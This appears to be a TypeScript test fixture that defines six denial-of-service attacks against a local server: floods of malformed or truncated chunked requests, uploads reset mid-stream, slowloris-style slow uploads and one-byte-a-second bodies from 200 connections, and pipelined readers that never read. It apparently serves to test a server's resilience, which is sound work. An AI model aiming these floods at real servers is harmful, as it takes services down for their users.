import { connect, type Socket } from 'node:net'
import type { Attack } from '../try-attacks.ts'

const H = 'Host: localhost\r\n'
const SIGN_IN = '/api/juridical/jwt/obtain/'
const FORM = 'Content-Type: multipart/form-data; boundary=b\r\n'
const JSON_TYPE = 'Content-Type: application/json\r\n'
const UPLOADS = [
  { path: '/api/juridical/applications/', type: FORM, length: 60_000_000, first: '--b\r\n' },
  { path: '/api/proxy_google_table', type: JSON_TYPE, length: 15_000_000, first: '{"file":"' },
]

const head = (path: string, more: string): string => `POST ${path} HTTP/1.1\r\n${H}${more}\r\n`
const CHUNKED = `${JSON_TYPE}Transfer-Encoding: chunked\r\n`

/** One address of the attacker; others are other people's. */
const open = (port: number, address: string): Socket => {
  const socket = connect({ port, host: '127.0.0.1', localAddress: address })
  socket.on('error', () => undefined)
  socket.resume()
  return socket
}

/** So many times a second, each time with a new connection. */
const often =
  (times: number, act: (socket: Socket, turn: number) => void) =>
  (port: number): (() => void) => {
    const sockets = new Set<Socket>()
    let turn = 0
    const timer = setInterval(() => {
      const socket = open(port, '127.66.0.1')
      sockets.add(socket)
      socket.on('close', () => sockets.delete(socket))
      act(socket, (turn += 1))
    }, 1000 / times)
    return () => {
      clearInterval(timer)
      for (const socket of sockets) socket.destroy()
    }
  }

/** So many connections at once, each of which sends a little every second. */
const slowly =
  (count: number, first: (at: number) => string, drip: string) =>
  (port: number): (() => void) => {
    const sockets = Array.from({ length: count }, (_, at) => {
      const socket = open(port, `127.66.0.${1 + (at % 2)}`)
      socket.write(first(at))
      return socket
    })
    const timer = setInterval(() => {
      for (const socket of sockets) if (socket.writable) socket.write(drip)
    }, 1_000)
    return () => {
      clearInterval(timer)
      for (const socket of sockets) socket.destroy()
    }
  }

const uploadHead = (at: number): string => {
  const { path, type, length, first } = UPLOADS[at % UPLOADS.length] ?? { ...UPLOADS[0] }
  return `${head(path ?? '', `${type ?? ''}Content-Length: ${length ?? 0}\r\n`)}${first ?? ''}`
}

const PIECE = 'x'.repeat(2_000)

export const ATTACKS: readonly Attack[] = [
  {
    name: 'malformed chunks, 50 a second',
    start: often(50, (socket) => {
      socket.write(`${head(SIGN_IN, CHUNKED)}zz\r\n{}\r\n0\r\n\r\n`)
    }),
  },
  {
    name: 'bodies broken off after half a chunk, 50 a second',
    start: often(50, (socket) => {
      socket.write(`${head(SIGN_IN, CHUNKED)}fff\r\n{"username"`)
      setTimeout(() => socket.destroy(), 20)
    }),
  },
  {
    name: 'uploads broken off in the middle, 20 a second',
    start: often(20, (socket, turn) => {
      socket.write(uploadHead(turn))
      socket.write(PIECE.repeat(50))
      setTimeout(() => socket.resetAndDestroy(), 100)
    }),
  },
  {
    name: '200 uploads at 2 KB a second from two addresses',
    start: slowly(200, uploadHead, PIECE),
  },
  {
    name: '200 small bodies at a byte a second from two addresses',
    start: slowly(200, () => head(SIGN_IN, `${JSON_TYPE}Content-Length: 60000\r\n`), ' '),
  },
  {
    name: '100 readers who do not read',
    start: (port) => {
      const sockets = Array.from({ length: 100 }, (_, at) => {
        const socket = open(port, `127.66.0.${1 + (at % 2)}`)
        socket.write(`GET /api/terminals/ HTTP/1.1\r\n${H}\r\n`.repeat(3))
        socket.pause()
        return socket
      })
      return () => {
        for (const socket of sockets) socket.destroy()
      }
    },
  },
]
